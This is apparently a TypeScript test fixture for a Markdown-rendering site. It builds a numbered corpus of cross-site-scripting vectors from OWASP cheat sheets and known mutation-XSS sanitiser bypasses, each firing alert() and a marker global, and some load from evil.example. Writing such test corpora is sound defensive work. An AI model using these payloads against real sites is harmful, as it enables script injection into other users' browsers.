/**
 * A corpus of cross-site-scripting vectors for contributor text, from OWASP's XSS Filter Evasion
 * and XSS Prevention cheat sheets, the known mutation-XSS (mXSS) and namespace-confusion bypasses
 * of HTML sanitisers, and the Markdown forms of the same (links, images, autolinks, reference
 * links, entities in link destinations).
 *
 * Every vector, if it ever runs, calls alert(n) and sets `top.xss<n>` (n is its number), so a test
 * sees it in the page's globals or as a dialog; vectors that would load something point at
 * https://evil.example/, so a test sees it as a request to a foreign host.
 *
 * Used twice: tests/lib/markdown.test.ts renders each vector alone through the sanitiser, and
 * tests/support/build-sets.ts puts each into a practice of its own in the "fixture" build (body and
 * summary), which tests/site/xss.site.test.ts loads in Chromium. One practice per vector, so a vector
 * that swallows the rest of a document (an open comment, <noscript>, <xmp>) cannot hide another.
 */

export interface XssVector {
  /** 1, 2, …: the number in the marker and in the practice id. */
  n: number;
  /** What it tries, in a few words. */
  name: string;
  /** The contributor text: Markdown with raw HTML, as an editor could type it. */
  source: string;
}

/** The global a vector sets when it runs. */
export const markerOf = (n: number) => `xss${n}`;
/** The JavaScript a vector runs: no spaces or quotes, so it fits any context unquoted. */
const js = (n: number) => `alert(${n}),top.xss${n}=1`;
/** An HTML document that runs the payload, base64-encoded for data: URLs. */
const b64 = (n: number) => Buffer.from(`<script>${js(n)}</script>`).toString('base64');
/** The payload with every character as an HTML entity (&#x61;&#x6c;…). */
const entities = (s: string) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');

const VECTORS: ((n: number) => [name: string, source: string])[] = [
  // Script elements, in every casing and form.
  (n) => ['a script element', `<script>${js(n)}</script>`],
  (n) => ['a script element in capitals', `<SCRIPT>${js(n)}</SCRIPT>`],
  (n) => ['a script element in mixed case with a foreign src', `<ScRiPt SrC="https://evil.example/x${n}.js"></sCrIpT>`],
  (n) => ['a script with a slash instead of a space', `<script/src="https://evil.example/x${n}.js"></script>`],
  (n) => ['a script inside svg', `<svg><script>${js(n)}</script></svg>`],
  // Event handlers.
  (n) => ['img onerror', `<img src=x onerror=${js(n)}>`],
  (n) => ['img onerror with an entity-encoded payload', `<img src=x onerror="${entities(js(n))}">`],
  (n) => ['svg onload', `<svg onload=${js(n)}><circle r="1"/></svg>`],
  (n) => ['svg animate onbegin', `<svg><animate onbegin=${js(n)} attributeName=x dur=1s></svg>`],
  (n) => ['body onload', `<body onload=${js(n)}>`],
  (n) => ['details ontoggle', `<details open ontoggle=${js(n)}><summary>x</summary></details>`],
  (n) => ['input autofocus onfocus', `<input autofocus onfocus=${js(n)}>`],
  (n) => ['video source onerror', `<video><source onerror=${js(n)}></video>`],
  (n) => ['a handler after a slash', `<img/src=x/onerror=${js(n)}>`],
  // javascript:, data: and vbscript: URLs, plain and obfuscated.
  (n) => ['a Markdown javascript: link', `[klik hier](javascript:${js(n)})`],
  (n) => ['a Markdown javascript: link in mixed case', `[klik hier](JaVaScRiPt:${js(n)})`],
  (n) => ['a Markdown link with an entity for the colon', `[klik hier](javascript&#58;${js(n)})`],
  (n) => ['a Markdown reference link to javascript:', `[klik hier][x]\n\n[x]: javascript:${js(n)}`],
  (n) => ['a Markdown image with a javascript: source', `![plaatje](javascript:${js(n)})`],
  (n) => ['an autolink to javascript:', `<javascript:${js(n)}>`],
  (n) => ['a Markdown link to a data: document', `[klik hier](data:text/html;base64,${b64(n)})`],
  (n) => ['an HTML javascript: link', `<a href="javascript:${js(n)}">klik</a>`],
  (n) => ['a javascript: link with a tab entity', `<a href="java&#x09;script:${js(n)}">klik</a>`],
  (n) => ['a javascript: link with a newline entity and leading space', `<a href=" jav&#x0A;ascript:${js(n)}">klik</a>`],
  (n) => ['a javascript: link in decimal entities', `<a href="&#106;avascript:${js(n)}">klik</a>`],
  (n) => ['a javascript: link with &colon;', `<a href="javascript&colon;${js(n)}">klik</a>`],
  (n) => ['an HTML data: link', `<a href="data:text/html;base64,${b64(n)}">klik</a>`],
  (n) => ['a vbscript: link', `<a href="vbscript:msgbox(${n})">klik</a>`],
  (n) => ['an image with a javascript: source', `<img src="javascript:${js(n)}" alt="x">`],
  (n) => ['an svg link with xlink:href', `<svg><a xlink:href="javascript:${js(n)}"><text x="20" y="20">klik</text></a></svg>`],
  (n) => ['a math link with href', `<math><mi href="javascript:${js(n)}">klik</mi></math>`],
  // Frames, objects and forms.
  (n) => ['an iframe with a javascript: source', `<iframe src="javascript:${js(n)}"></iframe>`],
  (n) => ['an iframe with srcdoc', `<iframe srcdoc="&lt;script&gt;${js(n)}&lt;/script&gt;"></iframe>`],
  (n) => ['an iframe with a data: document', `<iframe src="data:text/html;base64,${b64(n)}"></iframe>`],
  (n) => ['an object and an embed', `<object data="https://evil.example/x${n}.swf"></object><embed src="javascript:${js(n)}">`],
  (n) => ['a form with a button formaction', `<form action="https://evil.example/f${n}"><button formaction="javascript:${js(n)}">Verstuur</button></form>`],
  (n) => ['a lone button with formaction', `<button form="x" formaction="javascript:${js(n)}">Verstuur</button>`],
  // Page-level elements.
  (n) => ['a meta refresh to javascript:', `<meta http-equiv="refresh" content="0;url=javascript:${js(n)}">`],
  (n) => ['a base element', `<base href="https://evil.example/b${n}/">`],
  (n) => ['a stylesheet link', `<link rel="stylesheet" href="https://evil.example/s${n}.css">`],
  // Styles.
  (n) => ['a style attribute with url() and expression()', `<p style="background:url(https://evil.example/p${n}.png);width:expression(${js(n)})">stijl</p>`],
  (n) => ['a style element with @import', `<style>@import 'https://evil.example/i${n}.css';body{background:url(https://evil.example/b${n}.png)}</style>`],
  // Mutation XSS and namespace confusion.
  (n) => ['mXSS: math, mtext, table, mglyph, style', `<math><mtext><table><mglyph><style><img src=x onerror=${js(n)}>`],
  (n) => ['mXSS: svg, style', `<svg></p><style><a id="</style><img src=x onerror=${js(n)}>">`],
  (n) => ['mXSS: noscript with a title', `<noscript><p title="</noscript><img src=x onerror=${js(n)}>"></noscript>`],
  (n) => ['mXSS: xmp with a title', `<xmp><p title="</xmp><img src=x onerror=${js(n)}>"></xmp>`],
  (n) => ['mXSS: form inside math', `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js(n)}>`],
  (n) => ['a template', `<template><img src=x onerror=${js(n)}></template>`],
  (n) => ['a comment broken out of', `<!--><img src=x onerror=${js(n)}>-->`],
  (n) => ['a comment closed with --!>', `<!-- x --!><img src=x onerror=${js(n)}> -->`],
  (n) => ['a textarea closed early', `<textarea><img src=x onerror=${js(n)}></textarea>`],
  // Markup as text: harmless on the page, but a search excerpt that is written as HTML would run it.
  (n) => ['markup in a code span', `De code \`<img src=x onerror=${js(n)}>\` is tekst.`],
  (n) => ['markup as escaped entities', `Tekst &lt;img src=x onerror=${js(n)}&gt; als tekst.`],
];

export const XSS_CORPUS: readonly XssVector[] = VECTORS.map((make, i) => {
  const [name, source] = make(i + 1);
  return { n: i + 1, name, source };
});

/** A practice id per vector: xss-01, xss-02, … */
export const practiceIdOf = (v: XssVector) => `xss-${String(v.n).padStart(2, '0')}`;
/** A word every corpus practice contains, to find them all with one search. */
export const XSS_SEARCH_WORD = 'xssproef';
/** The summary of a corpus practice: plain text with the vector in it (at most 300 characters). */
export const summaryOf = (v: XssVector) => `Proef ${v.n} (${v.name}): ${v.source}`;
/** The body of a corpus practice: an ordinary paragraph, the vector, and the search word around it. */
export const bodyOf = (v: XssVector) => `## Proef ${v.n}\n\nEen ${XSS_SEARCH_WORD} met ${v.name}.\n\n${v.source}\n\nEinde van de ${XSS_SEARCH_WORD} ${v.n}.\n`;
